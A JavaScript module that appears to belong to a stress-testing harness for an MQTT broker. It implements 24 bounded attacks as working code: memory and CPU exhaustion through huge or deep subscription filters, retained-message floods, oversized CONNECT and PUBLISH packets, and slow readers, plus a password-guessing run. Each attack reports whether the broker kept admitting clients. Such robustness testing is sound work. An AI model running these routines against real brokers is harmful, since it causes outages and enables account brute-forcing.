/**
 * Attacks of one client, or one stranger, on a broker. Each is bounded in bytes and time, and disconnects at
 * the end. It resolves with figures for the table, such as how many clients were refused.
 *
 * @typedef {object} Context
 * @property {number} port
 * @property {string} [from] the address of the attacker
 * @property {string} [user]
 * @property {string} [password]
 * @property {number} scale 1 is the size that was found to hurt; a smaller one is the same kind of attack
 * @property {AbortSignal} [signal]
 * @property {boolean} [stays] leaves Sessions and retained messages behind, which are otherwise removed
 */
import {
  begunPacket,
  DISCONNECT,
  emptyUserProperties,
  messageExpiry,
  pause,
  publish,
  Raw,
  subscribe,
  text,
  varint,
} from './wire.mjs'

const KIB = 1024
const MIB = 1024 * 1024
const FILTER_BYTES_MAX = 65_535
const SUBSCRIBE_BYTES = 1_000_000

/**
 * The name of each attack, its description, and its function.
 *
 * @type {[name: string, description: string, run: (context: Context) => Promise<Record<string, unknown>>][]}
 */
export const ATTACKS = [
  ['groups', 'Shared Subscriptions of 100,000 groups on one filter, then 66 messages', groups],
  ['group-sessions', 'the same groups held by Sessions of 100 each', groupSessions],
  ['deep-filters', 'SUBSCRIBEs of filters with 32,500 levels, 14 MiB in all', deepFilters],
  ['long-filters', '200,000 filters of 4,000 bytes in a Session that is kept', longFilters],
  ['tiny-retained', '800,000 retained messages of 5 bytes', tinyRetained],
  ['long-names', 'publishes to topic names of 64 KB, all different', longNames],
  ['delayed-wills', '1,500 Wills of up to 1 MiB with a long delay', delayedWills],
  ['subscribes-at-once', '40 SUBSCRIBEs of 1 MiB at once', subscribesAtOnce],
  ['immortal-sessions', 'Sessions that never expire, Client Identifiers of 64 KB', immortalSessions],
  ['hoarders', 'five clean Sessions never acknowledge while 300 MB are published', hoarders],
  ['deaf-readers', 'subscribers that read nothing while 100 MB are published', deafReaders],
  ['strangers', '17,200 strangers with 63 KB of CONNECT each', strangers],
  ['half-publishes', '200 half-sent PUBLISH of 24 MB', halfPublishes],
  ['retained-match', 'deep filters against 1,000 retained names of 30 KB', retainedMatch],
  ['deep-subscribe', 'one SUBSCRIBE of 32 deep filters', deepSubscribe],
  ['many-filters', 'DISCONNECT after a million filters', manyFilters],
  ['expiry', '500,000 retained messages that expire in one second', expiry],
  ['share-member', 'the Session of a share member ends with 300,000 messages', shareMember],
  ['user-properties', 'a PUBLISH with 200 MB of empty User Properties', userProperties],
  ['connect-properties', 'CONNECT with 208,000 User Properties', connectProperties],
  ['branching', '131,072 filters over {a,+} of 17 levels, publishes to new topics', branching],
  ['guesses', '200 connections of one address guess passwords of 20 users', guesses],
  ['reconnects', 'one client reconnects as fast as it can', reconnects],
  ['noise', 'a publisher at QoS 0 sends as fast as it can to 100 subscribers', noise],
]

/**
 * The log-ins with the right password during the attack `guesses`, by what they share with the guesser: its
 * address, and the user whose password it guesses. Nobody has logged in as these users before.
 *
 * @type {[name: string, isGuessedAt: boolean, isSameAddress: boolean, users: string[]][]}
 */
const LOG_INS = [
  ['other user, other address', false, false, tenUsers('stranger')],
  ['other user, same address', false, true, tenUsers('neighbour')],
  ['same user, other address', true, false, tenUsers('target')],
  ['same user, same address', true, true, tenUsers('double')],
]

/** @param {string} name */
function tenUsers(name) {
  return Array.from({ length: 10 }, (_, index) => `${name}-${index}`)
}

/** Users that the attack `guesses` needs. They have the attacker's password. */
export const USERS_AT_LOG_IN = LOG_INS.flatMap(([, , , users]) => users)

const number = (scale, full) => Math.max(1, Math.round(full * scale))

/**
 * Connects a client of the attacker.
 *
 * @param {Context} context
 * @param {Parameters<typeof Raw.open>[1]} [fields]
 */
function open(context, fields = {}) {
  const { port, user, password, from } = context
  return Raw.open(port, { user, password, ...fields }, { from })
}

async function leave(...clients) {
  for (const client of clients) client.end(DISCONNECT)
  await Promise.all(clients.map((client) => client.until(() => false, 2000)))
  for (const client of clients) client.destroy()
}

/** Sends SUBSCRIBEs of half `SUBSCRIBE_BYTES` each, and waits for the answers. Resolves with their number. */
async function subscribeAll(client, filters) {
  let batch = []
  let bytes = 0
  let sent = 0
  const flush = async () => {
    if (batch.length === 0) return
    client.send(subscribe((sent % 65_535) + 1, batch))
    sent++
    batch = []
    bytes = 0
    await client.until(() => client.counts[9] >= sent, 60_000)
  }
  for (const filter of filters) {
    batch.push(filter)
    bytes += Buffer.byteLength(filter) + 3
    if (bytes >= SUBSCRIBE_BYTES / 2) await flush()
    if (client.closed) break
  }
  await flush()
  return client.counts[9]
}

function* range(count, make) {
  for (let index = 0; index < count; index++) yield make(index)
}

/** Sends packets until it is told to stop, or the connection is closed. Resolves with their number. */
async function publishAll(client, packets, signal) {
  let sent = 0
  for (const bytes of packets) {
    if (client.closed || signal?.aborted) break
    client.send(bytes)
    if (++sent % 64 === 0) await client.drained()
  }
  await client.drained()
  return sent
}

async function publishQoS1(client, count, fields) {
  const answered = client.counts[4]
  for (let index = 0; index < count && !client.closed; index++) {
    client.send(publish({ ...fields, qos: 1, packetId: (index % 60_000) + 1 }))
    if (index % 50 === 49) await client.until(() => client.counts[4] - answered > index - 100)
  }
  await client.until(() => client.counts[4] - answered >= count, 20_000)
  return client.counts[4] - answered
}

async function groups(context) {
  const count = number(context.scale, 100_000)
  const hoarder = await open(context, { clientId: 'x-groups', kept: true })
  const subacks = await subscribeAll(
    hoarder,
    range(count, (n) => `$share/${n}/x/foo/#`),
  )
  await leave(hoarder)
  const publisher = await open(context)
  const acknowledged = await publishQoS1(publisher, 66, { topic: 'x/foo/x', payload: 'fifteen bytes..' })
  await leave(publisher)
  await forget(context, 'x-groups')
  return { groups: count, subacks, acknowledged }
}

async function groupSessions(context) {
  const count = number(context.scale, 1000)
  let accepted = 0
  const ids = [...range(count, (n) => `x-group-session-${n}`)]
  for (const [n, clientId] of ids.entries()) {
    const client = await open(context, { clientId, kept: true })
    if (client.isOpen) {
      accepted++
      await subscribeAll(
        client,
        range(100, (group) => `$share/${n}-${group}/x/foo/#`),
      )
    }
    client.end(DISCONNECT)
  }
  const publisher = await open(context)
  const acknowledged = await publishQoS1(publisher, 66, { topic: 'x/foo/x', payload: 'fifteen bytes..' })
  await leave(publisher)
  for (const clientId of ids) await forget(context, clientId)
  return { sessions: accepted, acknowledged }
}

/** Ends a Session that was left behind, unless it is to stay. */
async function forget(context, clientId) {
  if (context.stays) return
  const client = await open(context, { clientId })
  client.end(DISCONNECT)
}

const deepFilter = (n, levels) => `${n}/${'a/'.repeat(levels - 2)}a`.slice(0, FILTER_BYTES_MAX)

async function deepFilters(context) {
  const client = await open(context)
  const subacks = await subscribeAll(
    client,
    range(number(context.scale, 218), (n) => `x${deepFilter(n, 32_400)}`),
  )
  await leave(client)
  return { subacks }
}

async function longFilters(context) {
  const client = await open(context, { clientId: 'x-long-filters', kept: true })
  const name = 'x'.repeat(4000)
  const subacks = await subscribeAll(
    client,
    range(number(context.scale, 200_000), (n) => `x/${n}/${name}`),
  )
  await leave(client)
  await forget(context, 'x-long-filters')
  return { subacks }
}

async function tinyRetained(context) {
  const count = number(context.scale, 800_000)
  const client = await open(context)
  const packets = range(count, (n) =>
    publish({ topic: `x/tiny/${n}`, payload: 'hello', retain: true, qos: 0 }),
  )
  const sent = await publishAll(client, packets, context.signal)
  if (!context.stays) {
    await publishAll(
      client,
      range(count, (n) => publish({ topic: `x/tiny/${n}`, retain: true })),
      context.signal,
    )
  }
  await leave(client)
  return { sent }
}

async function longNames(context) {
  const client = await open(context)
  const name = 'x'.repeat(60_000)
  const sent = await publishAll(
    client,
    range(number(context.scale, 3000), (n) => publish({ topic: `x/${name}${n}`, payload: 'no' })),
    context.signal,
  )
  await leave(client)
  return { sent }
}

async function delayedWills(context) {
  const count = number(context.scale, 1500)
  let accepted = 0
  let refused = 0
  for (let n = 0; n < count && !context.signal?.aborted; n++) {
    const will = { topic: `x/will/${n}`, payload: Buffer.alloc(60_000, 1), delaySeconds: 100_000 }
    const client = await open(context, { clientId: `x-will-${n}`, expirySeconds: 200_000, will })
    if (client.isOpen) accepted++
    else refused++
    client.destroy()
  }
  for (let n = 0; n < count; n++) await forget(context, `x-will-${n}`)
  return { accepted, refused }
}

async function subscribesAtOnce(context) {
  const clients = await openMany(number(context.scale, 40), () => open(context))
  const filters = [...range(90_000, (n) => `x/${n}`)]
  const bytes = subscribe(1, filters)
  for (const client of clients) client.send(bytes)
  await Promise.all(clients.map((client) => client.until(() => client.counts[9] > 0, 60_000)))
  const answered = clients.filter((client) => client.counts[9] > 0).length
  await leave(...clients)
  return { answered }
}

async function openMany(count, openOne) {
  const clients = []
  for (let from = 0; from < count; from += 50) {
    clients.push(...(await Promise.all([...range(Math.min(50, count - from), openOne)])))
  }
  return clients
}

async function immortalSessions(context) {
  const count = number(context.scale, 5000)
  const id = 'x'.repeat(60_000)
  let accepted = 0
  for (let n = 0; n < count && !context.signal?.aborted; n++) {
    const client = await open(context, { clientId: `${id}${n}`, kept: true })
    if (client.isOpen) accepted++
    client.end(DISCONNECT)
  }
  for (let n = 0; n < accepted; n++) await forget(context, `${id}${n}`)
  return { accepted, refused: count - accepted }
}

async function hoarders(context) {
  const bytes = number(context.scale, 300 * MIB)
  const five = await openMany(5, () => open(context))
  for (const client of five) client.send(subscribe(1, ['x/hoard'], 1))
  await Promise.all(five.map((client) => client.until(() => client.counts[9] > 0)))
  const publisher = await open(context)
  const payload = Buffer.alloc(64 * KIB, 7)
  const acknowledged = await publishQoS1(publisher, Math.ceil(bytes / payload.length), {
    topic: 'x/hoard',
    payload,
  })
  const newcomers = await openMany(10, () => open(context))
  const letIn = newcomers.filter(({ isOpen }) => isOpen).length
  const still = five.filter(({ isOpen }) => isOpen).length
  await leave(publisher, ...newcomers, ...five)
  return { acknowledged, 'newcomers let in': `${letIn} of 10`, 'hoarders still there': still }
}

async function deafReaders(context) {
  const readers = await openMany(10, () => open(context))
  for (const client of readers) client.send(subscribe(1, ['x/deaf']))
  await Promise.all(readers.map((client) => client.until(() => client.counts[9] > 0)))
  for (const client of readers) client.goDeaf()
  const publisher = await open(context)
  const payload = Buffer.alloc(16 * KIB, 7)
  const count = Math.ceil(number(context.scale, 100 * MIB) / payload.length)
  await publishAll(
    publisher,
    range(count, () => publish({ topic: 'x/deaf', payload })),
    context.signal,
  )
  const newcomers = await openMany(10, () => open(context))
  const letIn = newcomers.filter(({ isOpen }) => isOpen).length
  for (const client of readers) client.destroy()
  await leave(publisher, ...newcomers)
  return { 'newcomers let in': `${letIn} of 10` }
}

async function strangers(context) {
  const count = number(context.scale, 17_200)
  const begun = begunPacket(0x10, 70_000, connectHead(), Buffer.alloc(63_000, 120))
  const all = []
  for (let n = 0; n < count && !context.signal?.aborted; n++) {
    const client = new Raw(context.port, context)
    client.send(begun)
    all.push(client)
    if (n % 100 === 99) await client.drained(2000)
  }
  await pause(500)
  const newcomers = await openMany(10, () => open(context))
  const letIn = newcomers.filter(({ isOpen }) => isOpen).length
  const still = all.filter(({ closed }) => !closed).length
  for (const client of all) client.destroy()
  await leave(...newcomers)
  return { 'newcomers let in': `${letIn} of 10`, 'strangers still there': `${still} of ${all.length}` }
}

/** Returns a CONNECT up to the length of its Client Identifier, which announces 65,000 bytes. */
function connectHead() {
  return Buffer.concat([text('MQTT'), Buffer.from([5, 2, 0, 0, 0]), Buffer.from([0xfd, 0xe8])])
}

async function halfPublishes(context) {
  const clients = await openMany(number(context.scale, 200), () => open(context))
  const begun = begunPacket(0x30, 24_000_000, text('x/half'), Buffer.from([0]))
  const chunk = Buffer.alloc(MIB, 1)
  for (const client of clients) client.send(begun)
  for (let round = 0; round < 23 && !context.signal?.aborted; round++) {
    for (const client of clients) client.send(chunk)
    await Promise.all(clients.map((client) => client.drained(3000)))
  }
  const newcomers = await openMany(10, () => open(context))
  const letIn = newcomers.filter(({ isOpen }) => isOpen).length
  const still = clients.filter(({ isOpen }) => isOpen).length
  for (const client of clients) client.destroy()
  await leave(...newcomers)
  return { 'newcomers let in': `${letIn} of 10`, 'senders still there': `${still} of ${clients.length}` }
}

async function retainedMatch(context) {
  const publisher = await open(context)
  const count = number(context.scale, 1000)
  const name = (n) => `x${n}/${'a/'.repeat(14_900)}`
  await publishAll(
    publisher,
    range(count, (n) => publish({ topic: name(n), payload: 'r', retain: true })),
    context.signal,
  )
  const client = await open(context)
  client.send(subscribe(1, [...range(14, (n) => `${'+/'.repeat(31_850 + n)}+`)]))
  const answered = await client.until(() => client.counts[9] > 0, 60_000)
  await publishAll(
    publisher,
    range(count, (n) => publish({ topic: name(n), retain: true })),
    context.signal,
  )
  await leave(client, publisher)
  return { answered }
}

async function deepSubscribe(context) {
  const client = await open(context)
  client.send(subscribe(1, [...range(31, (n) => `x${deepFilter(n, 16_300)}`)]))
  const answered = await client.until(() => client.counts[9] > 0, 30_000)
  await leave(client)
  return { answered }
}

async function manyFilters(context) {
  const client = await open(context)
  const subacks = await subscribeAll(
    client,
    range(number(context.scale, 1_000_000), (n) => `x/${n}`),
  )
  await leave(client)
  await pause(1000)
  return { subacks }
}

async function expiry(context) {
  const client = await open(context)
  const count = number(context.scale, 500_000)
  const from = performance.now()
  const expires = () =>
    Math.max(1, Math.ceil(30 * context.scale) + 2 - Math.floor((performance.now() - from) / 1000))
  const sent = await publishAll(
    client,
    range(count, (n) =>
      publish({ topic: `x/e/${n}`, payload: 'r', retain: true, properties: messageExpiry(expires()) }),
    ),
    context.signal,
  )
  await pause(Math.max(0, (30 * context.scale + 5) * 1000 - (performance.now() - from)))
  await leave(client)
  return { sent }
}

async function shareMember(context) {
  const member = await open(context, { clientId: 'x-member', kept: true })
  await subscribeAll(member, ['$share/g/x/work'])
  await leave(member)
  const publisher = await open(context)
  const acknowledged = await publishQoS1(publisher, number(context.scale, 300_000), {
    topic: 'x/work',
    payload: 'job',
  })
  const other = await open(context, { clientId: 'x-member-2' })
  await subscribeAll(other, ['$share/g/x/work'])
  await forget(context, 'x-member')
  await pause(1000)
  await leave(other, publisher)
  return { acknowledged }
}

async function userProperties(context) {
  const client = await open(context)
  const count = number(context.scale, 40_000_000)
  const bytes = 5 * count
  const head = Buffer.concat([text('x/p'), varint(bytes)])
  client.send(begunPacket(0x30, head.length + bytes, head))
  const chunk = emptyUserProperties(100_000)
  for (let sent = 0; sent < count && !client.closed; sent += 100_000) {
    client.send(sent + 100_000 <= count ? chunk : emptyUserProperties(count - sent))
    await client.drained()
  }
  await pause(500)
  const { closed, disconnected } = client
  client.destroy()
  return { refused: closed ? `0x${(disconnected ?? 0).toString(16)}` : 'no' }
}

async function connectProperties(context) {
  const client = await open(context, { userProperties: number(context.scale, 208_000) })
  const { connack } = client
  client.destroy()
  return { connack: connack === null ? 'none' : `0x${connack.toString(16)}` }
}

async function branching(context) {
  const client = await open(context)
  const bits = 17
  const count = number(context.scale, 2 ** bits)
  const filter = (n) => [...range(bits, (bit) => ((n >> bit) & 1 ? '+' : 'a'))].join('/')
  const subacks = await subscribeAll(client, range(count, filter))
  const publisher = await open(context)
  const topic = (n) => [...range(bits, (bit) => (bit === 0 ? `b${n}` : 'a'))].join('/')
  const sent = await publishAll(
    publisher,
    range(200, (n) => publish({ topic: topic(n), payload: 'x' })),
    context.signal,
  )
  await leave(publisher, client)
  return { subacks, sent }
}

/**
 * Guesses the passwords of half of `USERS_AT_LOG_IN`, while all of them log in with the right one, one after
 * the other. Resolves with how many got in of each case, and the longest time that it took.
 */
async function guesses(context) {
  const { port, password, from = '127.0.0.1' } = context
  const guessedAt = LOG_INS.flatMap(([, isGuessedAt, , users]) => (isGuessedAt ? users : []))
  let guessed = 0
  let over = false
  const guess = async (n) => {
    for (let round = 0; !over && !context.signal?.aborted; round++) {
      const guess = { user: guessedAt[n % guessedAt.length], password: `wrong-${n}-${round}` }
      const client = await Raw.open(port, guess, { from })
      guessed++
      client.destroy()
      await pause(5)
    }
  }
  const guessing = [...range(number(context.scale, 200), guess)]
  await pause(1000)
  /** @type {Record<string, string>} */
  const figures = {}
  for (const [name, , isSameAddress, users] of LOG_INS) {
    let letIn = 0
    let mostMs = 0
    for (const [n, user] of users.entries()) {
      const began = performance.now()
      const client = await Raw.open(
        port,
        { user, password },
        { from: isSameAddress ? from : `127.0.1.${n + 1}` },
      )
      if (client.isOpen) {
        letIn++
        mostMs = Math.max(mostMs, performance.now() - began)
      }
      client.destroy()
    }
    figures[name] = `${letIn} of ${users.length} in${letIn > 0 ? `, in ${mostMs.toFixed(0)} ms at most` : ''}`
  }
  over = true
  await Promise.all(guessing)
  return { guessed, ...figures }
}

async function reconnects(context) {
  const until = performance.now() + number(context.scale, 10_000)
  let count = 0
  while (performance.now() < until && !context.signal?.aborted) {
    const client = await open(context, { clientId: 'x-again' })
    if (client.isOpen) count++
    client.end(DISCONNECT)
  }
  return { reconnects: count }
}

async function noise(context) {
  const until = performance.now() + number(context.scale, 20_000)
  const readers = await openMany(number(Math.min(1, context.scale * 10), 100), () => open(context))
  for (const client of readers) client.send(subscribe(1, ['x/noise']))
  const publisher = await open(context)
  const chunk = Buffer.concat([
    ...range(500, () => publish({ topic: 'x/noise', payload: Buffer.alloc(64, 1) })),
  ])
  let sent = 0
  while (performance.now() < until && !publisher.closed && !context.signal?.aborted) {
    publisher.send(chunk)
    sent += 500
    await publisher.drained()
  }
  await leave(publisher, ...readers)
  return { sent }
}

/**
 * Carries out one attack by its name. Resolves with its figures.
 *
 * @param {string} name
 * @param {Context} context
 */
export async function attack(name, context) {
  const found = ATTACKS.find(([known]) => known === name)
  if (found === undefined) throw new Error(`there is no attack '${name}'`)
  const [, , run] = found
  return await run(context)
}
